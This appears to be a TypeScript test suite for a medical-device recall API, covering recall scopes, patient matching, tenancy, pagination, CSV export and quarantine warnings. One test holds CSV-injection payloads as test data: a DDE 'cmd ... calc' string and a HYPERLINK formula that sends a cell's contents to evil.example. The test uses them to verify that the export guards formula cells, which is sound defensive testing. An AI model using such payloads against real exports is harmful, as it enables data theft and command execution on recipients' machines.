/**
 * Recalls on a real Postgres: every scope kind, how each item matched,
 * explanted and voided items, tenancy, CSV, pagination while scans arrive,
 * contact tracking, and quarantine at the point of use.
 */
import t from 'tap';
import { fixedClock } from '../../src/shared/clock.js';
import { buildTestApp, createOrganisationWithKeys, type TestApp } from '../helpers/app.js';
import { GS, GTIN, GTIN_B, newProcedure, nhsNumber, scan } from '../helpers/theatre.js';

const GTIN_C = '09506000134383';

interface Affected {
  itemId: string;
  patient: { nhsNumber: string };
  item: { lotNumber: string | null; serialNumber: string | null; explantedAt: string | null };
  match: string;
  contactStatus: string;
}

async function allAffected(app: TestApp, key: string, recallId: string, limit = 1000): Promise<Affected[]> {
  const out: Affected[] = [];
  let cursor: string | null = null;
  do {
    const res = await app.request({ method: 'GET', url: `/v1/recalls/${recallId}/patients?limit=${limit}${cursor ? `&cursor=${cursor}` : ''}`, key });
    if (res.statusCode !== 200) throw new Error(res.body);
    const page = res.json<{ items: Affected[]; nextCursor: string | null }>();
    out.push(...page.items);
    cursor = page.nextCursor;
  } while (cursor);
  return out;
}

t.test('recalls', async (t) => {
  const app = await buildTestApp(t, { clock: fixedClock('2026-11-21T09:00:00Z') });
  const org = await createOrganisationWithKeys(app, 'RRK');
  const other = await createOrganisationWithKeys(app, 'RH8');
  const s = org.keys.scanner;
  const p = org.keys.procurement;

  // The implants on record at RRK.
  const proc1 = await newProcedure(app, s, 201, { location: { gln: '9506000134369' }, clinician: { localId: 'CONS-1', name: 'Mr Knee' }, side: 'left' });
  await scan(app, s, proc1, { barcode: `01${GTIN}17280131` + `10LOT-A${GS}21S-100` }); // lot A, serial 100, expiry 2028-01-31
  await scan(app, s, proc1, { barcode: `01${GTIN}17280630` + `10LOT-B${GS}21S-205` }); // lot B, serial 205
  await scan(app, s, proc1, { barcode: `01${GTIN}` }); // product label only: lot never captured
  await scan(app, s, proc1, { manual: { gtin: GTIN, lotNumber: 'LOT-A' } }); // typed in
  await scan(app, s, proc1, { barcode: `01${GTIN_B}10LOT-A` }); // another product with the same lot name
  const proc2 = await newProcedure(app, s, 202);
  await scan(app, s, proc2, { barcode: `01${GTIN}11250301` + `10LOT-C${GS}21S-150` }); // made 2025-03-01
  const wasted = await scan(app, s, proc2, { barcode: `01${GTIN}10LOT-A${GS}21S-101`, action: 'wasted' });
  const voided = await scan(app, s, proc2, { barcode: `01${GTIN}10LOT-A${GS}21S-102` });
  await app.request({ method: 'POST', url: `/v1/scans/${voided.json().scan.id}/void`, key: s, payload: { reason: 'wrong box' } });
  await scan(app, s, proc2, { barcode: '+A123BJC5D6E71G' });
  await scan(app, s, proc2, { barcode: '+$$52001510X3GD' });
  // Patient 201 is revised: S-205 explanted.
  const revision = await newProcedure(app, s, 201);
  await scan(app, s, revision, { barcode: `01${GTIN}21S-205`, action: 'explanted' });
  // Another organisation's patient with lot A.
  const foreign = await newProcedure(app, other.keys.scanner, 301);
  await scan(app, other.keys.scanner, foreign, { barcode: `01${GTIN}10LOT-A${GS}21S-900` });

  const preview = (scope: unknown[], key = p) => app.request({ method: 'POST', url: '/v1/recalls/preview', key, payload: { reference: 'X', title: 'x', scope } });

  t.test('every scope kind, and how each item matched', async (t) => {
    const cases: Array<[string, unknown[], Record<string, unknown>]> = [
      ['lot list', [{ gtin: GTIN, lots: ['LOT-A'] }], { items: 3, byMatch: { lot: 1, 'gtin-only': 1, manual: 1, udi: 0 } }],
      ['serial list', [{ gtin: GTIN, serials: ['S-100', 'S-150'] }], { items: 4, byMatch: { udi: 2, 'gtin-only': 1, manual: 1 } }],
      ['serial range (numeric where it can be)', [{ gtin: GTIN, serialRange: { from: 'S-100', to: 'S-199' } }], { items: 4, byMatch: { udi: 2 } }],
      ['expiry window', [{ gtin: GTIN, expiryFrom: '2028-01-01', expiryTo: '2028-03-31' }], { byMatch: { lot: 1 } }],
      ['manufacture window', [{ gtin: GTIN, manufacturedFrom: '2025-01-01', manufacturedTo: '2025-12-31' }], { byMatch: { lot: 1 } }],
      ['all lots', [{ gtin: GTIN, allLots: true }], { items: 5, patients: 2, explanted: 1 }],
      ['HIBC product', [{ hibc: { lic: 'A123', pcn: 'BJC5D6E7' }, lots: ['10X3'] }], { items: 1, byMatch: { lot: 1 } }],
      ['two scopes are alternatives', [{ gtin: GTIN, lots: ['LOT-C'] }, { gtin: GTIN_B, allLots: true }], { byMatch: { lot: 2 } }],
      ['a product nobody received', [{ gtin: GTIN_C, allLots: true }], { items: 0, patients: 0 }],
    ];
    for (const [name, scope, expect] of cases) {
      const res = await preview(scope);
      t.equal(res.statusCode, 200, `${name}: ${res.body.slice(0, 200)}`);
      t.match(res.json(), expect, name);
    }
  });

  t.test('wasted and voided items are never affected patients; explanted ones are, marked so', async (t) => {
    const res = await preview([{ gtin: GTIN, serials: ['S-101', 'S-102', 'S-205'] }]);
    t.match(res.json(), { explanted: 1 });
    const created = await app.request({ method: 'POST', url: '/v1/recalls', key: p, payload: { reference: 'FSN-SERIALS', title: 'Serials', scope: [{ gtin: GTIN, serials: ['S-101', 'S-102', 'S-205'] }] } });
    const list = await allAffected(app, p, created.json().id);
    const serials = list.map((a) => a.item.serialNumber);
    t.notOk(serials.includes('S-101'), 'wasted');
    t.notOk(serials.includes('S-102'), 'voided');
    t.match(list.find((a) => a.item.serialNumber === 'S-205'), { match: 'udi', item: { explantedAt: '2026-11-21T09:00:00.000Z' } });
    t.equal(wasted.statusCode, 201);
  });

  let recallId = '';
  t.test('create: 201 with counts; the list is live', async (t) => {
    const res = await app.request({
      method: 'POST',
      url: '/v1/recalls',
      key: p,
      payload: { reference: 'FSN-2026-0114', title: 'Stem fracture risk', manufacturer: 'Acme Ortho', issuedAt: '2026-11-20', scope: [{ gtin: GTIN, lots: ['LOT-A', 'LOT-B'] }] },
    });
    t.equal(res.statusCode, 201, res.body);
    recallId = res.json().id;
    t.match(res.json(), { reference: 'FSN-2026-0114', status: 'active', national: false, counts: { items: 4, patients: 1, byStatus: { identified: 4 } } });
    const detail = await app.request({ method: 'GET', url: `/v1/recalls/${recallId}`, key: p });
    t.match(detail.json(), { scope: [{ gtin: GTIN, lots: ['LOT-A', 'LOT-B'] }] });
    const dup = await app.request({ method: 'POST', url: '/v1/recalls', key: p, payload: { reference: 'FSN-2026-0114', title: 'again', scope: [{ gtin: GTIN, allLots: true }] } });
    t.equal(dup.statusCode, 409);
  });

  t.test('the affected list: patient, procedure, item, match, status; no other organisation', async (t) => {
    const list = await allAffected(app, p, recallId);
    t.equal(list.length, 4);
    t.ok(list.every((a) => a.patient.nhsNumber === nhsNumber(201)));
    const res = await app.request({ method: 'GET', url: `/v1/recalls/${recallId}/patients`, key: p });
    t.match(res.json().items.find((a: Affected) => a.item.lotNumber === 'LOT-A' && a.match === 'lot'), {
      procedure: { organisation: 'RRK', location: { gln: '9506000134369' }, clinician: 'Mr Knee', side: 'left' },
      item: { lotNumber: 'LOT-A', serialNumber: 'S-100', expirationDate: '2028-01-31', entryType: 'barcode' },
      contactStatus: 'identified',
    });
    const theirs = await app.request({ method: 'GET', url: `/v1/recalls/${recallId}/patients`, key: other.keys.procurement });
    t.equal(theirs.statusCode, 404, "an organisation's recall is not another's");
  });

  t.test('a national recall: each organisation sees its own patients, the national key all', async (t) => {
    const nationalKey = (await app.request({ method: 'POST', url: '/v1/api-keys', key: app.adminKey, payload: { name: 'MHRA', role: 'procurement', national: true } })).json().key;
    const res = await app.request({ method: 'POST', url: '/v1/recalls', key: nationalKey, payload: { reference: 'MHRA-1', title: 'National', scope: [{ gtin: GTIN, lots: ['LOT-A'] }] } });
    t.match(res.json(), { national: true, counts: { items: 4, patients: 2 } });
    const id = res.json().id;
    t.equal((await allAffected(app, org.keys.procurement, id)).length, 3);
    t.same((await allAffected(app, other.keys.procurement, id)).map((a) => a.item.serialNumber), ['S-900']);
    const listed = await app.request({ method: 'GET', url: '/v1/recalls', key: other.keys.procurement });
    t.same(listed.json().items.map((r: { reference: string }) => r.reference), ['MHRA-1']);
    const close = await app.request({ method: 'POST', url: `/v1/recalls/${id}/close`, key: org.keys.procurement });
    t.equal(close.statusCode, 403, 'only its owner closes it');
  });

  t.test('pagination: no gaps, no repeats, while new scans arrive', async (t) => {
    const recall = await app.request({ method: 'POST', url: '/v1/recalls', key: p, payload: { reference: 'FSN-PAGES', title: 'Pages', scope: [{ gtin: GTIN, allLots: true }] } });
    const id = recall.json().id;
    const seen: string[] = [];
    let cursor: string | null = null;
    let round = 0;
    do {
      const res = await app.request({ method: 'GET', url: `/v1/recalls/${id}/patients?limit=2${cursor ? `&cursor=${cursor}` : ''}`, key: p });
      const page = res.json<{ items: Affected[]; nextCursor: string | null }>();
      seen.push(...page.items.map((a) => a.itemId));
      cursor = page.nextCursor;
      // A new matching scan between pages.
      if (round++ === 0) await scan(app, s, proc1, { barcode: `01${GTIN}10LOT-NEW${GS}21S-NEW${round}` });
    } while (cursor);
    t.equal(new Set(seen).size, seen.length, 'no repeats');
    const now = await allAffected(app, p, id);
    const before = now.filter((a) => a.item.serialNumber !== 'S-NEW1');
    t.ok(before.every((a) => seen.includes(a.itemId)), 'no gaps among the items there from the start');
    t.ok(now.some((a) => a.item.serialNumber === 'S-NEW1'), 'the new item is in the list now');
  });

  t.test('CSV: header, quoting, one row per JSON item, asOf recorded', async (t) => {
    const json = await allAffected(app, p, recallId);
    const res = await app.request({ method: 'GET', url: `/v1/recalls/${recallId}/patients`, key: p, headers: { accept: 'text/csv' } });
    t.equal(res.statusCode, 200);
    t.match(res.headers['content-type'], /^text\/csv/);
    t.equal(res.headers['x-as-of'], '2026-11-21T09:00:00.000Z');
    t.match(res.headers['content-disposition'], /attachment; filename="recall-FSN-2026-0114-/);
    const lines = res.body.trimEnd().split('\n');
    t.equal(lines[0], 'nhs_number,procedure_date,organisation,location_gln,location_name,clinician,side,gtin,device_identifier,lot_number,serial_number,expiration_date,entry_type,match,match_reason,decision,explanted_at,contact_status,voided_at,voided_by,item_id,procedure_id');
    t.equal(lines.length - 1, json.length, 'as many rows as the JSON list');
    t.ok(lines.slice(1).every((l) => l.startsWith(nhsNumber(201))));
    t.match(res.body, /"GLN 9506000134369"|GLN 9506000134369/);
    const viaQuery = await app.request({ method: 'GET', url: `/v1/recalls/${recallId}/patients?format=csv`, key: p });
    t.equal(viaQuery.body.split('\n').length, res.body.split('\n').length);
  });

  t.test('CSV quoting and the formula guard', async (t) => {
    await app.request({ method: 'POST', url: '/v1/locations', key: org.keys.admin, payload: { gln: '9506000134376', name: 'Theatre "A", Wing 2' } });
    const proc = await newProcedure(app, s, 204, { location: { gln: '9506000134376' } });
    await scan(app, s, proc, { barcode: `01${GTIN_C}10=HYPERLINK(X)` });
    const recall = await app.request({ method: 'POST', url: '/v1/recalls', key: p, payload: { reference: 'FSN-CSV', title: 'csv', scope: [{ gtin: GTIN_C, lots: ['=HYPERLINK(X)'] }] } });
    const csv = await app.request({ method: 'GET', url: `/v1/recalls/${recall.json().id}/patients?format=csv`, key: p });
    const row = csv.body.trimEnd().split('\n')[1] ?? '';
    t.match(row, /,"Theatre ""A"", Wing 2",/, 'a comma and quotes are quoted, RFC 4180');
    t.match(row, /,'=HYPERLINK\(X\),/, 'a would-be formula is defused');
    const json = await allAffected(app, p, recall.json().id);
    t.equal(json[0]?.item.lotNumber, '=HYPERLINK(X)', 'the JSON keeps the value as scanned');
  });

  t.test('every cell a spreadsheet could run is guarded: = + - @, tab and carriage return first (OWASP)', async (t) => {
    const evilPlace = "-2+3+cmd|' /C calc'!A0";
    const evilClinician = '+HYPERLINK("http://evil.example/?x="&A2,"Open")';
    await app.request({ method: 'POST', url: '/v1/locations', key: org.keys.admin, payload: { gln: '9506000134383', name: evilPlace } });
    const proc = await newProcedure(app, s, 205, { location: { gln: '9506000134383' }, clinician: { localId: 'EVIL1', name: evilClinician } });
    const typed = await scan(app, s, proc, { manual: { gtin: GTIN_C, lotNumber: '+HYPERLINK(1)', serialNumber: '-1+1' } });
    t.equal(typed.statusCode, 201, typed.body);
    await scan(app, s, proc, { manual: { gtin: GTIN_C, lotNumber: '-12', serialNumber: 'S-TAB' } });
    const recall = await app.request({ method: 'POST', url: '/v1/recalls', key: p, payload: { reference: 'FSN-OWASP', title: 'csv', scope: [{ gtin: GTIN_C, lots: ['+HYPERLINK(1)', '-12'] }] } });
    const csv = await app.request({ method: 'GET', url: `/v1/recalls/${recall.json().id}/patients?format=csv`, key: p });
    const cells = csv.body.trimEnd().split('\n').slice(1).join('\n');
    t.match(cells, "'-2+3+cmd|' /C calc'!A0", 'a location name is guarded');
    t.match(cells, `"'+HYPERLINK(""http://evil.example/?x=""&A2,""Open"")"`, 'a clinician name is guarded');
    t.match(cells, ",'+HYPERLINK(1),'-1+1,", 'a typed lot and serial are guarded');
    t.match(cells, ",'-12,", 'a lot that starts with - is guarded too (a spreadsheet does not show the apostrophe)');
    t.notMatch(cells, /(^|,)[=+\-@\t\r]/m, 'no cell starts with a formula character');
    const json = await allAffected(app, p, recall.json().id);
    t.same(json.map((r) => r.item.lotNumber).sort(), ['+HYPERLINK(1)', '-12'], 'the JSON keeps every value untouched');
  });

  t.test('contact tracking: statuses with history; counts by status', async (t) => {
    const [first] = await allAffected(app, p, recallId);
    const item = first as Affected;
    const url = `/v1/recalls/${recallId}/items/${item.itemId}`;
    await app.request({ method: 'PATCH', url, key: p, payload: { status: 'contacted', note: 'letter sent' } });
    const res = await app.request({ method: 'PATCH', url, key: p, payload: { status: 'reviewed' } });
    t.equal(res.statusCode, 200);
    t.match(res.json(), { itemId: item.itemId, status: 'reviewed', history: [{ status: 'contacted', note: 'letter sent' }, { status: 'reviewed', note: null }] });
    const recall = await app.request({ method: 'GET', url: `/v1/recalls/${recallId}`, key: p });
    t.match(recall.json().counts.byStatus, { reviewed: 1, identified: 3 });
    const bad = await app.request({ method: 'PATCH', url, key: p, payload: { status: 'forgotten' } });
    t.equal(bad.statusCode, 422);
    const notAffected = await app.request({ method: 'PATCH', url: `/v1/recalls/${recallId}/items/00000000-0000-4000-8000-000000000000`, key: p, payload: { status: 'contacted' } });
    t.equal(notAffected.statusCode, 404);
  });

  t.test('ad hoc: GET /v1/recalls/affected-patients?gtin&lot (lot repeatable)', async (t) => {
    const res = await app.request({ method: 'GET', url: `/v1/recalls/affected-patients?gtin=${GTIN}&lot=LOT-A&lot=LOT-C`, key: p });
    t.equal(res.statusCode, 200);
    t.same(res.json().items.map((a: Affected) => a.match).sort(), ['gtin-only', 'lot', 'lot', 'manual']);
    t.ok(res.json().items.some((a: Affected) => a.item.lotNumber === 'LOT-C'));
    const all = await app.request({ method: 'GET', url: `/v1/recalls/affected-patients?gtin=${GTIN}`, key: p });
    t.ok(all.json().items.length >= 5);
  });

  t.test('invalid scopes -> 422 naming the problem', async (t) => {
    const bad: Array<[unknown[], RegExp]> = [
      [[{ gtin: '09506000134353', allLots: true }], /check digit/],
      [[{ gtin: GTIN }], /empty scope/],
      [[{ gtin: GTIN, serialRange: { from: '200', to: '100' } }], /wrong way round/],
      [[{ gtin: GTIN, expiryFrom: '2027-01-01', expiryTo: '2026-01-01' }], /after/],
      [[{ gtin: GTIN, hibc: { lic: 'A123', pcn: 'X' }, allLots: true }], /exactly one of gtin or hibc/],
      [[{ gtin: GTIN, allLots: true, lots: ['A'] }], /allLots cannot/],
      [[], /at least 1|too small|>=1/i],
    ];
    for (const [scope, message] of bad) {
      const res = await preview(scope);
      t.equal(res.statusCode, 422, JSON.stringify(scope));
      t.match(JSON.stringify(res.json().errors), message);
    }
  });

  t.test('quarantine: a scan of a recalled item is critical while the recall is active', async (t) => {
    const proc = await newProcedure(app, s, 203);
    const hit = await scan(app, s, proc, { barcode: `01${GTIN}10LOT-B${GS}21S-777` });
    const recalled = hit.json().warnings.filter((w: { code: string }) => w.code === 'PRODUCT_RECALLED');
    t.match(recalled, [{ severity: 'critical', message: /FSN-2026-0114: Stem fracture risk/ }, { severity: 'critical', message: /FSN-PAGES/ }], 'one warning per recall, by reference');
    t.equal(hit.statusCode, 201, 'recorded all the same');
    const unknownLot = await scan(app, s, proc, { barcode: `01${GTIN}` });
    t.ok(unknownLot.json().warnings.some((w: { code: string }) => w.code === 'PRODUCT_RECALLED'), 'a lot that cannot be ruled out is warned too');
    const otherLot = await scan(app, s, proc, { barcode: `01${GTIN}10LOT-Z${GS}21S-778` });
    t.notOk(JSON.stringify(otherLot.json().warnings).includes('FSN-2026-0114'));
    const open = await app.request({ method: 'POST', url: `/v1/recalls/${recallId}/close`, key: p });
    t.match(open.json(), { code: 'RECALL_OPEN_ITEMS' }, 'its patients are not reviewed yet');
    const close = await app.request({ method: 'POST', url: `/v1/recalls/${recallId}/close`, key: p, payload: { reason: 'Superseded by FSN-2026-0115' } });
    t.match(close.json(), { status: 'closed', closedAt: '2026-11-21T09:00:00.000Z', closeReason: 'Superseded by FSN-2026-0115' });
    const after = await scan(app, s, proc, { barcode: `01${GTIN}10LOT-B${GS}21S-779` });
    t.notOk(JSON.stringify(after.json().warnings).includes('FSN-2026-0114'), 'closed: no longer warned');
  });

  t.test('every list and export is audited', async (t) => {
    const rows = await app.db.selectFrom('audit_events').select(['action', 'patient_ids']).where('action', 'like', 'recall.%').execute();
    const actions = new Set(rows.map((r) => r.action));
    for (const a of ['recall.create', 'recall.preview', 'recall.patients.read', 'recall.patients.export', 'recall.contact.update', 'recall.adhoc.read', 'recall.close']) t.ok(actions.has(a), a);
    t.ok(rows.filter((r) => r.action === 'recall.patients.read').some((r) => r.patient_ids.length > 0));
  });
});
